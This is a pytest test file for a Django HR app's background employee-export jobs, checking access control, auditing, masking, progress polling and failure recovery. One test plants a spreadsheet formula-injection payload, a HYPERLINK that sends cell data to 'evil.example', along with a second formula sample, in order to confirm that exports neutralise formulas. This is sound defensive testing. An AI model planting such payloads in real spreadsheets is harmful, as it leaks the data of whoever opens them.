"""Large directory exports are background jobs: progress by polling, a private file for the requester only,
audited, formulas neutralised, and nothing half-written visible when the worker is lost (issue #10)."""

import csv
import io

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from openpyxl import load_workbook

from pamong.audit.models import AuditEvent
from pamong.people import exports, imports
from pamong.people.models import Employee, ExportJob

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


@pytest.fixture
def small_threshold(monkeypatch):
    """Any export of more than two rows becomes a job (the world has a dozen employees)."""
    monkeypatch.setattr(exports, "EXPORT_JOB_ROWS", 2)


def _visible_nips(world) -> set[str]:
    return set(Employee.objects.filter(pemda=world.pemda, is_active=True).values_list("nip", flat=True))


def test_small_export_is_still_written_in_the_request(world, login):
    response = login(world.hr_admin).get(reverse("people:employee-export"), {"format": "xlsx"})

    assert response.status_code == 200
    assert not ExportJob.objects.exists()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_large_export_becomes_a_job_whose_file_only_its_requester_downloads(world, login, small_threshold, fmt):
    client = login(world.hr_admin)
    before = AuditEvent.objects.count()

    response = client.get(reverse("people:employee-export"), {"format": fmt, "q": ""})

    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("people:export-detail", args=[job.public_id])
    assert (job.status, job.format, job.created_by_id) == ("done", fmt, world.hr_admin.user.pk)  # eager in tests
    assert job.file.name.startswith(f"exports/{world.pemda.pk}/")
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert reverse("people:export-download", args=[job.public_id]) in page.content.decode()

    download = client.get(reverse("people:export-download", args=[job.public_id]))

    assert download.status_code == 200
    content = b"".join(download.streaming_content)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    else:
        rows = [list(r) for r in load_workbook(io.BytesIO(content), read_only=True).worksheets[0].iter_rows(
            values_only=True)]
    assert rows[0] == imports.HEADERS
    assert {row[0] for row in rows[1:]} == _visible_nips(world)
    assert job.total_rows == len(rows) - 1
    actions = list(AuditEvent.objects.order_by("pk")[before:].values_list("action", flat=True))
    assert actions == ["people.employees_exported", "people.employees_export_downloaded"]


@pytest.mark.parametrize("persona", ["executive", "employee"])
def test_someone_elses_export_is_not_found(world, login, small_threshold, persona):
    login(world.hr_admin).get(reverse("people:employee-export"), {"format": "xlsx"})
    job = ExportJob.objects.get()

    client = login(getattr(world, persona))
    detail = client.get(reverse("people:export-detail", args=[job.public_id]))
    download = client.get(reverse("people:export-download", args=[job.public_id]))

    assert (detail.status_code, download.status_code) in {(404, 404), (403, 403)}
    assert not AuditEvent.objects.filter(action="people.employees_export_downloaded").exists()


def test_job_applies_the_directory_filters_and_masks_nik_as_the_request_would(world, login, small_threshold):
    client = login(world.executive)

    client.get(reverse("people:employee-export"), {"format": "xlsx", "unit": str(world.education.public_id)})

    job = ExportJob.objects.get()
    content = b"".join(client.get(reverse("people:export-download", args=[job.public_id])).streaming_content)
    rows = [list(r) for r in load_workbook(io.BytesIO(content), read_only=True).worksheets[0].iter_rows(
        values_only=True)]
    assert {row[0] for row in rows[1:]} == {world.unit_head.nip, world.supervisor.nip, world.employee.nip,
                                            world.peer.nip}
    assert all(row[1].startswith("************") for row in rows[1:])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_job_files_never_hold_formulas(world, login, small_threshold, fmt):
    from pamong.core.tests.sheets import dangerous_csv_cells, formula_cells

    Employee.objects.filter(pk=world.employee.pk).update(name=EVIL_NAME, address="@SUM(1+1)*cmd")
    client = login(world.hr_admin)
    client.get(reverse("people:employee-export"), {"format": fmt})
    job = ExportJob.objects.get()

    content = b"".join(client.get(reverse("people:export-download", args=[job.public_id])).streaming_content)

    if fmt == "csv":
        assert dangerous_csv_cells(content.decode("utf-8-sig")) == []
    else:
        assert formula_cells(content) == []


def test_running_job_page_polls_and_a_finished_one_stops(world, login, small_threshold):
    client = login(world.hr_admin)
    client.get(reverse("people:employee-export"), {"format": "xlsx"})
    job = ExportJob.objects.get()
    url = reverse("people:export-detail", args=[job.public_id])
    ExportJob.objects.filter(pk=job.pk).update(status="running", processed_rows=1, total_rows=4)

    running = client.get(url, {"partial": "progress"}, HTTP_HX_REQUEST="true").content.decode()
    ExportJob.objects.filter(pk=job.pk).update(status="done", processed_rows=4)
    done = client.get(url, {"partial": "progress"}, HTTP_HX_REQUEST="true").content.decode()

    assert 'hx-trigger="every 1s"' in running
    assert "25%" in running
    assert "hx-trigger" not in done
    assert reverse("people:export-download", args=[job.public_id]) in done


def test_worker_lost_mid_write_leaves_no_file_and_the_redelivery_finishes(world, login, small_threshold, monkeypatch):
    client = login(world.hr_admin)
    calls = {"n": 0}
    real_row = exports._row

    def dying_row(actor, employee):
        calls["n"] += 1
        if calls["n"] == 3:
            raise RuntimeError("worker lost")
        return real_row(actor, employee)

    folder = f"exports/{world.pemda.pk}"

    def stored() -> set[str]:
        return set(default_storage.listdir(folder)[1]) if default_storage.exists(folder) else set()

    files_before = stored()
    monkeypatch.setattr(exports, "_row", dying_row)
    client.get(reverse("people:employee-export"), {"format": "xlsx"})
    job = ExportJob.objects.get()
    assert job.status == "failed"
    assert not job.file
    assert client.get(reverse("people:export-download", args=[job.public_id])).status_code == 404
    assert stored() == files_before

    # A worker killed half-way leaves the job "running"; acks_late delivers the task again, which starts over.
    ExportJob.objects.filter(pk=job.pk).update(status="running", processed_rows=1)
    job = exports.export_job_run(job.pk)

    assert job.status == "done"
    assert job.total_rows == len(_visible_nips(world))
    again = exports.export_job_run(job.pk)  # a late duplicate delivery changes nothing
    assert again.file.name == job.file.name


def test_job_of_someone_who_lost_the_export_permission_fails_without_a_file(world, login, small_threshold,
                                                                            monkeypatch):
    client = login(world.hr_admin)
    monkeypatch.setattr(exports, "EXPORT_JOB_ROWS", 10_000)
    client.get(reverse("people:employee-export"), {"format": "xlsx"})
    job = ExportJob.objects.create(pemda=world.pemda, created_by=world.employee.user, format="xlsx", total_rows=10)

    job = exports.export_job_run(job.pk)

    assert job.status == "failed"
    assert not job.file
    assert job.error
